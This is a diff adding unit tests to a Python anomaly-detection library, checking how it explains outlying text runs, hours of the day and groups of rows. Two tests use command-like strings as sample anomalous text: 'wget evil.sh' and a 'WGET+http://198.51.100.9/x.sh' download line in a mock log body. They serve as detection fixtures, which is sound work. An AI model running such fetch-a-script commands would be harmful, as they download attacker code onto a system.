@@ -1,14 +1,20 @@
 """Documents stand out by runs of characters, each once, whose sum is exact."""
 
+from dataclasses import replace
+
 import numpy as np
 import pytest
 from benchmarks.reasons import measured
 
+from ramodo import REPEN, Consensus
 from ramodo.datasets import make_access_log
 from ramodo.explain.grouping import groups_of
-from ramodo.explain.passages import passages
+from ramodo.explain.naming import explained
+from ramodo.explain.passages import facts_of, passages
 from ramodo.explain.reasons import Lacks, Reason, RowExplanation, Span
-from ramodo.formats import TextOptions
+from ramodo.formats import How, Table, TextOptions
+from ramodo.formats.blending import blended, documents_of
+from ramodo.formats.circles import names_of_circle, on_circle
 from ramodo.formats.text import spans_of, vectorize
 from ramodo.report.marking import marked
 
@@ -73,6 +79,69 @@ def test_features_that_are_no_tokens_stay_what_they_are():
     assert passages("", np.array([3]), np.array([1.0]), OPTIONS).found == []
 
 
+def test_a_line_that_is_odd_from_end_to_end_is_one_run():
+    text = "wget evil.sh"
+    columns, amounts = worth_of(text, text)
+    (run,) = passages(text, columns, amounts, OPTIONS).found
+    assert run.text == text
+    assert run.contribution == pytest.approx(amounts.sum())
+
+
+def test_runs_of_columns_of_documents_say_which_and_where():
+    """Each column has runs of its own, whose places are those of the text that is shown."""
+    fields = {"subject": ["ordinary words here"], "body": ["and then WGET+http://198.51.100.9/x.sh again"]}
+    table = blended(fields, Table(np.array([[4.0]]), names=["size"]), How(texts=OPTIONS))
+    columns = np.sort(table.X.indices).astype(np.int64)
+    worth = dict(zip(*worth_of(fields["body"][0], "wget+http://198.51.100.9/x.sh"), strict=True))
+    amounts = np.array([worth.get(column - table.widths[0], 0.01) for column in columns.tolist()])
+    found, is_token = facts_of(documents_of(table, 0), [], columns, amounts, OPTIONS)
+    assert is_token.tolist() == [True] * (len(columns) - 1) + [False]
+    assert found[0].name.startswith("body: 'WGET+http://198.51.100.9/x")
+    (span,) = found[0].spans
+    assert table.texts[0][span.begin : span.end] == found[0].text
+    assert columns[found[0].members].min() >= table.widths[0]
+    assert {run.field for run in found[1:]} == {"subject"}
+
+
+def test_a_document_that_is_not_shown_has_runs_without_places():
+    table = replace(blended({"a": ["one"], "b": ["two"]}, Table(None), How(texts=OPTIONS)), texts=["two"])
+    assert [(document.field, document.begin) for document in documents_of(table, 0)] == [("a", None), ("b", 0)]
+
+
+def test_an_hour_is_one_reason_as_people_write_it():
+    """300 visits by day and one at night, with a category that only it has, and a number below zero."""
+    rng = np.random.default_rng(0)
+    hours = np.append(9 + 8 * rng.random(300), 3.2)
+    names = [*names_of_circle("when", "hour"), "plan=root", "balance"]
+    others = np.stack([np.arange(301) == 300, np.where(np.arange(301) == 300, -2.0, rng.normal(-8, 1, 301))], axis=1)
+    X = np.hstack([on_circle("hour", hours / 24), others])
+    table = Table(X, names=names, dates={"when": 0})
+    detector = REPEN(random_state=0).fit(X)
+    detector.feature_names_in_ = np.array(names, dtype=object)
+    why = explained(detector, table, [300], detector.outlier_scores_, 5, OPTIONS)[0]
+    said = {reason.feature: (reason.in_words(), reason.typical()) for reason in why.reasons}
+    assert set(said) == {"when, hour of the day", "plan=root", "balance"}
+    written, usual = said["when, hour of the day"]
+    assert written == "when, hour of the day = 03:12"
+    assert usual.startswith("usually around 1")
+    assert said["plan=root"][0] == "plan=root"
+    assert said["balance"][1].startswith("higher than usual: mean -7.")
+    total = sum(reason.contribution for reason in why.reasons) + why.lacks.contribution + why.rest
+    assert total == pytest.approx(why.score)
+    assert why.to_dict()["reasons"][0]["merged"] in (1, 2)
+
+
+def test_rows_of_a_small_table_are_not_all_alike():
+    """A row far out in all columns but the first, three high in the first, three low in it, and noise."""
+    X = np.random.default_rng(0).normal(size=(300, 6))
+    X[0, 1:] += 9
+    X[1:4, 0] += 7
+    X[4:7, 0] -= 7
+    detector = Consensus(random_state=0).fit(X)
+    groups = [set(group.rows) for group in detector.explain(X).groups(np.sort(detector.outlier_scores_)[-7])]
+    assert sorted(map(sorted, groups)) == [[1, 2, 3], [4, 5, 6]]
+
+
 def test_a_long_document_shows_where_its_reasons_are():
     text = "ordinary words " * 200 + "CASINO\x1b" + " more words" * 200
     at = text.index("CASINO")
@@ -90,7 +159,11 @@ def test_fewer_than_usual_is_said():
     assert fewer.typical().startswith("fewer than usual: in 98 % of references, mean 8")
     assert Reason(0, "age", 6.0, 1.0, 0.98, 8.0).compared() == "lower than usual"
     assert Reason(0, "age", 6.0, 1.0, 0.2, 8.0).compared() == ""
+    assert Reason(0, "balance", 6.0, 1.0, 1.0, -8.0).typical() == "higher than usual: mean -8"
+    assert Reason(0, "size", 30258.0, 1.0, 1.0, 18000.0).in_words() == "size = 30,258"
+    assert Reason(0, "status=403", 1.0, 1.0, 0.0, 0.0).in_words() == "status=403"
     assert Reason(0, "'x'", 1.0, 1.0, 0.1, 1.0, (Span(0, 1, 1.0),), 3, 4, 90).typical() == "in at most 4 of 90 rows"
+    assert Reason(0, "'x'", 1.0, 1.0, 0.0, 0.0, (Span(0, 1, 1.0),), 3, 0, 90).typical() == "in none of 90 rows"
 
 
 def test_a_score_that_is_spread_out_is_said_to_be():
@@ -106,7 +179,7 @@ def test_a_great_many_rows_are_grouped():
     rng = np.random.default_rng(0)
     rows = [(np.array([i % 3, 10 + int(rng.integers(500))]), np.array([2.0, 0.5])) for i in range(4500)]
     rows += [(np.array([1000 + i]), np.array([1.0])) for i in range(3)]
-    found = groups_of(rows, [float(4503 - i) for i in range(4503)])
+    found = groups_of(rows, [float(4503 - i) for i in range(4503)], 0)
     assert [len(group) for group in found] == [1500, 1500, 1500]
     assert all(len({place % 3 for place in group}) == 1 for group in found)
 
